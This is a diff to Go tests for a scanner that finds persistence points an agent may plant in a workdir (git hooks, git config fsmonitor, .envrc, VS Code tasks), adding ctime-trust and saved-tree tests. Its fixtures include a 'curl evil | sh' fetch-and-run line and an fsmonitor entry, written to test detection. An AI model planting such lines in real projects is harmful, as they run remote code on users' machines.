@@ -9,13 +9,32 @@ import (
 	"time"
 )
 
+// shortRacyMargin lets a test's fresh directories count as trusted after
+// 30 ms instead of 2 s (the rule is the same).
+func shortRacyMargin(t testing.TB) {
+	old := racyMargin
+	racyMargin = 20 * time.Millisecond
+	t.Cleanup(func() { racyMargin = old })
+}
+
+func scanJoin(root string, started time.Time, tr *tree) (string, *tree) {
+	fs, next := scan(root, started, nil, nil, nil, tr)
+	var b strings.Builder
+	for _, f := range fs {
+		b.WriteString(f.Text + "\n")
+	}
+	return b.String(), next
+}
+
 // TestScanTree: the scan over a tree read during the run, before or after
 // the agent's changes, finds what a full walk finds (a repository planted
 // in an old directory, a nested repository's config and a deep .envrc
 // changed in place, a protected name created deep down) and reads only
-// the directories that changed; a tree read before a directory was
-// replaced is not trusted for it.
+// the directories that changed; a directory replaced after the reading is
+// read again; a directory changed too recently to trust its ctime is read
+// again.
 func TestScanTree(t *testing.T) {
+	shortRacyMargin(t)
 	root, _ := filepath.EvalSymlinks(t.TempDir())
 	for d := 0; d < 50; d++ {
 		for f := 0; f < 20; f++ {
@@ -24,21 +43,22 @@ func TestScanTree(t *testing.T) {
 	}
 	write(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n")
 	write(t, filepath.Join(root, "a", "b", ".envrc"), "export A=1\n")
-	time.Sleep(30 * time.Millisecond)
+	time.Sleep(50 * time.Millisecond)
 	started := time.Now()
-	before := readTree(root, nil)
-	if !before.complete || len(before.dirs) < 50 {
-		t.Fatalf("the tree was not read: %d dirs, complete %v", len(before.dirs), before.complete)
+	before := readTree(root, nil, nil)
+	if !before.complete || len(before.Dirs) < 50 {
+		t.Fatalf("the tree was not read: %d dirs, complete %v", len(before.Dirs), before.complete)
 	}
-	time.Sleep(20 * time.Millisecond)
+	time.Sleep(30 * time.Millisecond)
 	write(t, filepath.Join(root, "d10", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
 	appendTo(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n\tfsmonitor = /tmp/x\n")
 	appendTo(t, filepath.Join(root, "a", "b", ".envrc"), "curl evil | sh\n")
 	write(t, filepath.Join(root, "d20", "sub", ".vscode", "tasks.json"), "{}")
-	after := readTree(root, nil)
+	time.Sleep(30 * time.Millisecond)
+	after := readTree(root, nil, nil)
 
 	dirReads.Store(0)
-	full := scanText(t, root, started, nil, nil)
+	full, _ := scanJoin(root, started, nil)
 	fullReads := dirReads.Load()
 	for _, want := range []string{"d10/.git/hooks/pre-commit", "vendor/lib/.git/config", "a/b/.envrc", "d20/sub/.vscode"} {
 		if !strings.Contains(full, want) {
@@ -47,32 +67,76 @@ func TestScanTree(t *testing.T) {
 	}
 	for name, tr := range map[string]*tree{"read before the changes": before, "read after them": after} {
 		dirReads.Store(0)
-		var b strings.Builder
-		for _, f := range scan(root, started, nil, nil, nil, tr) {
-			b.WriteString(f.Text + "\n")
+		got, next := scanJoin(root, started, tr)
+		if got != full {
+			t.Errorf("tree %s: the scan differs from the full one:\n%s\nfull:\n%s", name, got, full)
 		}
-		if b.String() != full {
-			t.Errorf("tree %s: the scan differs from the full one:\n%s\nfull:\n%s", name, b.String(), full)
+		if !next.complete || len(next.Dirs) != len(after.Dirs) {
+			t.Errorf("tree %s: the tree left for the next run has %d dirs (complete %v), want %d", name, len(next.Dirs), next.complete, len(after.Dirs))
 		}
-		// Changed: the root? no; d10 and its new .git's parent, d20,
-		// d20/sub, d20/sub/.vscode. Everything else is taken as recorded.
+		// Changed: d10, d20, d20/sub, d20/sub/.vscode (the root's
+		// entries did not change). Everything else is taken as recorded.
 		if n := dirReads.Load(); n > 6 || n*5 > fullReads {
 			t.Errorf("tree %s: the scan read %d directories (a full walk reads %d)", name, n, fullReads)
 		}
 	}
 
 	// A directory replaced after the tree was read (another inode) is read
-	// again, whatever its ctime says.
+	// again.
 	if err := os.Rename(filepath.Join(root, "d30"), filepath.Join(root, "d30.old")); err != nil {
 		t.Fatal(err)
 	}
 	write(t, filepath.Join(root, "d30", ".envrc"), "planted")
-	var b strings.Builder
-	for _, f := range scan(root, started, nil, nil, nil, before) {
-		b.WriteString(f.Text + "\n")
+	if got, _ := scanJoin(root, started, before); !strings.Contains(got, "d30/.envrc") {
+		t.Errorf("a replaced directory's new content was not scanned:\n%s", got)
 	}
-	if !strings.Contains(b.String(), "d30/.envrc") {
-		t.Errorf("a replaced directory's new content was not scanned:\n%s", b.String())
+
+	// A record whose ctime was too close to its reading is not trusted: a
+	// change in the same clock tick could keep the ctime.
+	racy := readTree(root, nil, nil)
+	racyMargin = time.Hour
+	fresh := readTree(root, nil, nil)
+	for dir, td := range fresh.Dirs {
+		if td.Trusted {
+			t.Errorf("%s: trusted with a ctime %v old", dir, time.Since(td.Ctime))
+		}
+	}
+	dirReads.Store(0)
+	if got, _ := scanJoin(root, started, fresh); got == "" || dirReads.Load() < int64(len(racy.Dirs)) {
+		t.Errorf("untrusted records were used: %d reads for %d dirs", dirReads.Load(), len(racy.Dirs))
+	}
+}
+
+// TestTreeFile: the tree a scan leaves is saved and read back by the next
+// run's prewalk, which then reads only the directories changed since; a
+// corrupt or missing file is no tree.
+func TestTreeFile(t *testing.T) {
+	shortRacyMargin(t)
+	root, _ := filepath.EvalSymlinks(t.TempDir())
+	for d := 0; d < 40; d++ {
+		write(t, filepath.Join(root, fmt.Sprintf("d%02d", d), "f"), "x")
+	}
+	time.Sleep(50 * time.Millisecond)
+	file := filepath.Join(t.TempDir(), "scan", "w.tree")
+	_, next := scanJoin(root, time.Now(), nil)
+	saveTree(file, next)
+	if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
+		t.Fatalf("the tree file: %v %v", st, err)
+	}
+	write(t, filepath.Join(root, "d07", "new"), "x")
+	dirReads.Store(0)
+	tr := startPrewalk(root, file).wait(nil)
+	if tr == nil || len(tr.Dirs) != 41 {
+		t.Fatalf("the prewalk from the saved tree gave %v", tr)
+	}
+	if n := dirReads.Load(); n != 1 {
+		t.Errorf("the prewalk read %d directories, want 1 (d07)", n)
+	}
+	if err := os.WriteFile(file, []byte("not a tree"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if loadTree(file) != nil || loadTree(filepath.Join(root, "missing")) != nil || loadTree("") != nil {
+		t.Error("a corrupt, missing or unnamed tree file gave a tree")
 	}
 }
 
@@ -94,8 +158,7 @@ func appendTo(t *testing.T, p, s string) {
 func TestPrewalkWait(t *testing.T) {
 	root := t.TempDir()
 	write(t, filepath.Join(root, "a", "f"), "x")
-	p := startPrewalk(root)
-	if tr := p.wait(nil); tr == nil || !tr.complete || len(tr.dirs) != 2 {
+	if tr := startPrewalk(root, "").wait(nil); tr == nil || !tr.complete || len(tr.Dirs) != 2 {
 		t.Fatalf("a finished prewalk gave %+v", tr)
 	}
 	done := make(chan struct{})
@@ -112,7 +175,8 @@ func TestPrewalkWait(t *testing.T) {
 // BenchmarkScanAfterRun: the end-of-run scan of a workdir of 100,000
 // files in 1,000 directories in which the agent changed 10 files, walked
 // in full and over the tree the prewalk read during the run (issue 27:
-// under 5 ms).
+// under 5 ms); the prewalk itself, from nothing and from the previous
+// run's tree.
 func BenchmarkScanAfterRun(b *testing.B) {
 	root, _ := filepath.EvalSymlinks(b.TempDir())
 	for d := 0; d < 1000; d++ {
@@ -126,9 +190,10 @@ func BenchmarkScanAfterRun(b *testing.B) {
 			}
 		}
 	}
-	time.Sleep(20 * time.Millisecond)
+	shortRacyMargin(b)
+	time.Sleep(50 * time.Millisecond)
 	started := time.Now()
-	tr := readTree(root, nil)
+	tr := readTree(root, nil, nil)
 	time.Sleep(20 * time.Millisecond)
 	for i := 0; i < 10; i++ {
 		if err := os.WriteFile(filepath.Join(root, fmt.Sprintf("d%03d", i*97), "f001"), []byte("changed"), 0o644); err != nil {
@@ -141,17 +206,22 @@ func BenchmarkScanAfterRun(b *testing.B) {
 	}{{"full", nil}, {"prewalked", tr}} {
 		b.Run(c.name, func(b *testing.B) {
 			for b.Loop() {
-				if f := scan(root, started, nil, nil, nil, c.t); len(f) != 0 {
+				if f, _ := scan(root, started, nil, nil, nil, c.t); len(f) != 0 {
 					b.Fatalf("findings: %v", f)
 				}
 			}
 		})
 	}
-	b.Run("prewalk", func(b *testing.B) {
-		for b.Loop() {
-			if t := readTree(root, nil); !t.complete {
-				b.Fatal("incomplete")
+	for _, c := range []struct {
+		name string
+		prev *tree
+	}{{"prewalk", nil}, {"prewalk-from-previous-run", tr}} {
+		b.Run(c.name, func(b *testing.B) {
+			for b.Loop() {
+				if t := readTree(root, nil, c.prev); !t.complete {
+					b.Fatal("incomplete")
+				}
 			}
-		}
-	})
+		})
+	}
 }
